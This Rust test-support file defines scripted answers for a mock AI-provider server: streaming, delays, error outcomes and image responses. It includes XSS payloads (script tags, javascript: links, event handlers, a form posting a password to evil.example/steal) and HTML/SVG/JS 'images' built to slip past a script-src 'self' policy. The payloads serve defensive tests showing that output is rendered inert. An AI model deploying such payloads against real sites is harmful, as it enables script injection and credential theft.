//! [`Script`]: what one generation request gets back (the text, how it is streamed, how long it
//! takes, and how it ends), so a test can play any answer, slow stream or failure a provider
//! produces.

use std::time::Duration;

/// The answer when nothing else is scripted: a short English sentence, always the same.
pub const DEFAULT_TEXT: &str = "The mock model answers with this short deterministic sentence.";

/// Model output that tries every common way to run script in a page, for tests proving that
/// untrusted output is rendered inert: `<script>` tags, `javascript:` links (HTML and markdown),
/// event-handler attributes, `<iframe>`, `<svg onload>`, a `data:` URL and a form posting away.
pub const HOSTILE_HTML: &str = concat!(
    "Here is your answer. <script>alert('xss-script')</script>\n\n",
    "<img src=\"x\" onerror=\"alert('xss-onerror')\">\n\n",
    "<a href=\"javascript:alert('xss-href')\">read more</a> and ",
    "[a markdown link](javascript:alert('xss-markdown'))\n\n",
    "<iframe src=\"https://evil.example/frame\"></iframe>\n\n",
    "<svg onload=\"alert('xss-svg')\"><circle r=\"1\"/></svg>\n\n",
    "<div style=\"background:url(javascript:alert('xss-style'))\" onmouseover=\"alert('xss-hover')\">hover</div>\n\n",
    "![image](javascript:alert('xss-image')) <a href=\"data:text/html,<script>alert('xss-data')</script>\">data</a>\n\n",
    "<form action=\"https://evil.example/steal\"><input name=\"password\"></form> ",
    "<object data=\"javascript:alert('xss-object')\"></object><embed src=\"javascript:alert('xss-embed')\">",
);

/// What a hostile "image" runs when a browser treats it as a document or a script: it marks
/// the page's title, this origin's `localStorage` (`aipasta-xss`) and the top window
/// (`__aipastaXss`), so a test can tell that it ran. Single quotes only, so it fits in an
/// attribute.
pub const HOSTILE_IMAGE_SCRIPT: &str = "try{localStorage.setItem('aipasta-xss','ran')}catch(e){}\
try{top.__aipastaXss='ran'}catch(e){}document.title='XSS ran';";

/// One image an image route answers ([`Script::images`]): its bytes and the type the answer
/// claims for them (a `data:` URL's type in OpenAI's `b64_json`, the `Content-Type` of Hugging
/// Face's image bytes). The hostile ones are what a compromised or careless upstream could
/// send as an "image".
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct MockImage {
    pub bytes: Vec<u8>,
    /// `None`: plain base64 in OpenAI's answer, `image/png` from Hugging Face.
    pub claimed_type: Option<String>,
}

impl MockImage {
    fn of(bytes: impl Into<Vec<u8>>, claimed_type: Option<&str>) -> MockImage {
        MockImage {
            bytes: bytes.into(),
            claimed_type: claimed_type.map(str::to_owned),
        }
    }

    /// A real 64×64 PNG.
    pub fn png() -> MockImage {
        MockImage::of(super::media::default_png(), None)
    }

    /// A real 2×2 JPEG.
    pub fn jpeg() -> MockImage {
        MockImage::of(super::media::jpeg(), None)
    }

    /// A real 1×1 WebP (lossless).
    pub fn webp() -> MockImage {
        MockImage::of(super::media::webp(), None)
    }

    /// A real 1×1 GIF.
    pub fn gif() -> MockImage {
        MockImage::of(super::media::GIF, None)
    }

    /// An HTML page running [`HOSTILE_IMAGE_SCRIPT`] inline and in an `onerror` (which the
    /// site's `script-src 'self'` blocks), and by loading the generation's second image as a
    /// script (which it allows: the script is of our origin), claimed as `text/html`.
    pub fn html() -> MockImage {
        let page = format!(
            "<!DOCTYPE html><html><head><title>image</title></head><body>\
             <script>{HOSTILE_IMAGE_SCRIPT}</script>\
             <img src=\"x\" onerror=\"{HOSTILE_IMAGE_SCRIPT}\">\
             <script src=\"image?index=1\"></script></body></html>"
        );
        MockImage::of(page, Some("text/html"))
    }

    /// An SVG document with a `<script>` element (inline, and loading the generation's second
    /// image), claimed as `image/svg+xml`.
    pub fn svg_script() -> MockImage {
        let svg = format!(
            "<?xml version=\"1.0\"?><svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" \
             height=\"10\"><script>{HOSTILE_IMAGE_SCRIPT}</script>\
             <script href=\"image?index=1\"/>\
             <rect width=\"10\" height=\"10\" fill=\"red\"/></svg>"
        );
        MockImage::of(svg, Some("image/svg+xml"))
    }

    /// An SVG document whose `onload` runs the script, claimed as `image/svg+xml`.
    pub fn svg_onload() -> MockImage {
        let svg = format!(
            "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\" \
             onload=\"{HOSTILE_IMAGE_SCRIPT}\"><rect width=\"10\" height=\"10\"/></svg>"
        );
        MockImage::of(svg, Some("image/svg+xml"))
    }

    /// JavaScript, claimed as `text/javascript`: harmless alone, dangerous once another page
    /// of our origin loads it with `<script src>` (which `script-src 'self'` allows).
    pub fn javascript() -> MockImage {
        MockImage::of(HOSTILE_IMAGE_SCRIPT, Some("text/javascript"))
    }

    /// The same bytes, claiming `claimed_type` instead.
    pub fn claiming(mut self, claimed_type: &str) -> MockImage {
        self.claimed_type = Some(claimed_type.to_owned());
        self
    }
}

/// Where token usage goes in a stream.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub enum UsagePlacement {
    /// In the chunk that carries `finish_reason`.
    #[default]
    FinalChunk,
    /// In an extra chunk with empty `choices` after the finish, as OpenAI sends it for
    /// `stream_options.include_usage`.
    SeparateChunk,
    /// Nowhere (non-stream answers leave `usage` out too).
    Omitted,
}

/// How the answer ends.
#[derive(Debug, Clone, Default, PartialEq)]
pub enum Outcome {
    /// Every chunk, `finish_reason: "stop"`, then `data: [DONE]` (TGI: the last token event
    /// carries `generated_text`, and `details` when the request asked for them; never
    /// `[DONE]`).
    #[default]
    Complete,
    /// Complete, but the stream ends without `data: [DONE]`.
    NoDone,
    /// Before any byte, this status with the route's real error body; `Retry-After` (seconds)
    /// when set; `estimated_time` goes into Hugging Face's 503 "model is loading" body. Also
    /// applies to non-stream requests.
    Status {
        status: u16,
        retry_after: Option<u64>,
        estimated_time: Option<f64>,
    },
    /// Stream: after this many chunks the connection is closed abruptly (no finish, no
    /// `[DONE]`, the chunked body never terminated). Non-stream: the body stops mid-JSON the
    /// same way.
    CutAfter(usize),
    /// Stream: after this many chunks, the provider's mid-stream error event, then the end.
    /// Non-stream: `200 OK` whose JSON body is the provider's error object.
    ErrorAfter(usize),
    /// Stream: after this many chunks, silence until the server is dropped. Non-stream: with 0,
    /// no answer at all (not even headers); with more, headers and half the body.
    StallAfter(usize),
    /// Stream: after this many chunks, a `data:` line that is not JSON, then the rest of the
    /// stream as usual. Non-stream: `200 OK` with a truncated JSON document.
    MalformedAfter(usize),
}

/// One scripted answer. Build it from [`Script::default`] or [`Script::text`] and the builder
/// methods; every field is public for struct-update syntax too.
#[derive(Debug, Clone, PartialEq)]
pub struct Script {
    /// The whole answer (summary, translation, completion); default [`DEFAULT_TEXT`].
    pub text: String,
    /// How many stream deltas the text is split into; `0` (the default) means one per word
    /// (each delta after the first starts with the whitespace before its word). Fewer than the
    /// words groups whole words; more splits by characters (at most one delta per character).
    /// Each delta counts as one completion token.
    pub chunks: usize,
    /// Before the first chunk (stream; the response headers go out at once) or before the
    /// whole answer (non-stream, plus `chunk_delay` per further chunk).
    pub first_token_delay: Duration,
    /// Before each later chunk.
    pub chunk_delay: Duration,
    /// `: OPENROUTER PROCESSING` comment lines spread over `first_token_delay` before the first
    /// chunk. Real only on OpenRouter, but sent on every stream: any SSE client must skip them.
    pub keep_alives: usize,
    pub usage: UsagePlacement,
    /// OpenRouter's `usage.cost` in USD, sent as a JSON number (OpenRouter routes only).
    pub cost: Option<String>,
    pub outcome: Outcome,
    /// What an image route answers instead of its PNGs: OpenAI's images every one, in order;
    /// Hugging Face's text-to-image the first one (it answers one image). Empty: the usual
    /// PNGs.
    pub images: Vec<MockImage>,
}

impl Default for Script {
    fn default() -> Script {
        Script {
            text: DEFAULT_TEXT.to_owned(),
            chunks: 0,
            first_token_delay: Duration::ZERO,
            chunk_delay: Duration::ZERO,
            keep_alives: 0,
            usage: UsagePlacement::default(),
            cost: None,
            outcome: Outcome::default(),
            images: Vec::new(),
        }
    }
}

impl Script {
    /// A complete answer with this text, everything else default.
    pub fn text(text: impl Into<String>) -> Script {
        Script {
            text: text.into(),
            ..Script::default()
        }
    }

    /// An image route's answer holding exactly these images (see [`Script::images`]).
    pub fn images(images: impl IntoIterator<Item = MockImage>) -> Script {
        Script {
            images: images.into_iter().collect(),
            ..Script::default()
        }
    }

    /// A script that only plays this outcome (default text).
    pub fn outcome_only(outcome: Outcome) -> Script {
        Script::default().outcome(outcome)
    }

    /// A status before any byte, as [`Outcome::Status`] without `Retry-After`.
    pub fn status(status: u16) -> Script {
        Script::outcome_only(Outcome::Status {
            status,
            retry_after: None,
            estimated_time: None,
        })
    }

    pub fn chunks(mut self, chunks: usize) -> Script {
        self.chunks = chunks;
        self
    }

    pub fn first_token_delay(mut self, delay: Duration) -> Script {
        self.first_token_delay = delay;
        self
    }

    pub fn chunk_delay(mut self, delay: Duration) -> Script {
        self.chunk_delay = delay;
        self
    }

    pub fn keep_alives(mut self, count: usize) -> Script {
        self.keep_alives = count;
        self
    }

    pub fn usage(mut self, placement: UsagePlacement) -> Script {
        self.usage = placement;
        self
    }

    pub fn cost(mut self, usd: impl Into<String>) -> Script {
        self.cost = Some(usd.into());
        self
    }

    pub fn outcome(mut self, outcome: Outcome) -> Script {
        self.outcome = outcome;
        self
    }

    /// The stream deltas, in order; they concatenate to [`Script::text`]. A complete stream
    /// sends exactly these, and `completion_tokens` is their number.
    pub fn deltas(&self) -> Vec<&str> {
        split(&self.text, self.chunks)
    }

    /// The time a non-stream answer takes: the first token, then each later chunk.
    pub(crate) fn generation_time(&self, deltas: usize) -> Duration {
        let later = u32::try_from(deltas.saturating_sub(1)).unwrap_or(u32::MAX);
        self.first_token_delay
            .saturating_add(self.chunk_delay.saturating_mul(later))
    }
}

/// Splits `text` into `chunks` pieces (see [`Script::chunks`]).
fn split(text: &str, chunks: usize) -> Vec<&str> {
    if text.is_empty() {
        return Vec::new();
    }
    let words = word_starts(text);
    if chunks == 0 || chunks == words.len() {
        return pieces(text, &words);
    }
    if chunks < words.len() {
        let starts: Vec<usize> = (0..chunks)
            .map(|group| words[group * words.len() / chunks])
            .collect();
        return pieces(text, &starts);
    }
    let chars: Vec<usize> = text.char_indices().map(|(index, _)| index).collect();
    let count = chunks.min(chars.len());
    let starts: Vec<usize> = (0..count)
        .map(|piece| chars[piece * chars.len() / count])
        .collect();
    pieces(text, &starts)
}

/// Byte offsets where each word's delta starts: 0, then the start of every run of whitespace
/// that comes before a word (so the whitespace rides at the front of the next delta).
fn word_starts(text: &str) -> Vec<usize> {
    let mut starts = vec![0];
    let mut seen_word = false;
    let mut space_run: Option<usize> = None;
    for (index, character) in text.char_indices() {
        if character.is_whitespace() {
            space_run.get_or_insert(index);
        } else {
            if let Some(run) = space_run.take()
                && seen_word
            {
                starts.push(run);
            }
            seen_word = true;
        }
    }
    starts
}

fn pieces<'a>(text: &'a str, starts: &[usize]) -> Vec<&'a str> {
    starts
        .iter()
        .enumerate()
        .map(|(index, &start)| {
            let end = starts.get(index + 1).copied().unwrap_or(text.len());
            &text[start..end]
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn one_delta_per_word_by_default() {
        let script = Script::text("Hello  big\nworld");
        assert_eq!(script.deltas(), ["Hello", "  big", "\nworld"]);
        assert_eq!(Script::text(" lead word").deltas(), [" lead", " word"]);
    }

    #[test]
    fn fewer_chunks_group_words_more_chunks_split_characters() {
        let script = Script::text("a b c d e").chunks(2);
        assert_eq!(script.deltas(), ["a b", " c d e"]);
        let script = Script::text("ab").chunks(5);
        assert_eq!(script.deltas(), ["a", "b"]);
        let script = Script::text("héllo").chunks(3);
        assert_eq!(script.deltas().concat(), "héllo");
        assert_eq!(script.deltas().len(), 3);
        assert!(Script::text("").deltas().is_empty());
    }

    #[test]
    fn deltas_always_rebuild_the_text() {
        for chunks in 0..40 {
            let script = Script::text(HOSTILE_HTML).chunks(chunks);
            assert_eq!(script.deltas().concat(), HOSTILE_HTML, "chunks {chunks}");
        }
    }

    #[test]
    fn generation_time_counts_later_chunks() {
        let script = Script::default()
            .first_token_delay(Duration::from_millis(10))
            .chunk_delay(Duration::from_millis(5));
        assert_eq!(script.generation_time(3), Duration::from_millis(20));
        assert_eq!(script.generation_time(0), Duration::from_millis(10));
    }
}
